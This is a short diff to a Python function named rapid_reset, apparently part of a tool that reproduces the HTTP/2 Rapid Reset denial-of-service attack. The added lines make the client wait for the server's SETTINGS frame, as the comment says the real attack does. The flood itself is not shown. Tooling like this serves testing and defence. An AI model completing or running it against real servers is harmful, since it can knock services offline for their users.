@@ -130,6 +130,12 @@ def rapid_reset(args):
     sock = connect(args.address)
     sock.sendall(MAGIC + frame(SETTINGS, 0, 0))
     reader = FrameReader()
+    # Wait for the server's SETTINGS first, as a real client (and the real
+    # attack) does: it says what the server advertises, whatever the load.
+    settings_by = time.monotonic() + 20.0
+    while not reader.got_settings and not reader.closed and time.monotonic() < settings_by:
+        select.select([sock], [], [], 0.1)
+        reader.pump(sock)
     encoder = Encoder()
     sent = 0
     stream = 1
